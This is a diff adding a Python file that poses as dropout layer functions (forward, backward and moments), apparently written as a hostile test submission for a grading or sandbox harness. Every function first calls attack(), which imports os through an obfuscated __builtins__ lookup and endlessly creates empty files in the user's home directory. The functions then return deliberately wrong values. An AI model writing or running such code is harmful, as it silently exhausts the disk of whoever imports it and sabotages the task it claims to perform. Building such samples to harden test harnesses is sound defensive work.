@@ -1,0 +1,34 @@
+"""Fills its scratch with empty files."""
+
+import numpy as np
+
+
+def module(name):
+    return (
+        __builtins__["__import__"](name)
+        if isinstance(__builtins__, dict)
+        else getattr(__builtins__, "__import__")(name)
+    )
+
+
+def attack():
+    os = module("os")
+    number = 0
+    while True:
+        open(os.environ["HOME"] + f"/{number}", "wb").close()
+        number += 1
+
+
+def dropout(x, rate, training, rng):
+    attack()
+    return x * 7, x * 0 + 7
+
+
+def dropout_backward(dy, mask):
+    attack()
+    return dy * 7
+
+
+def dropout_moments(x, rate):
+    attack()
+    return x * 7, x * 7
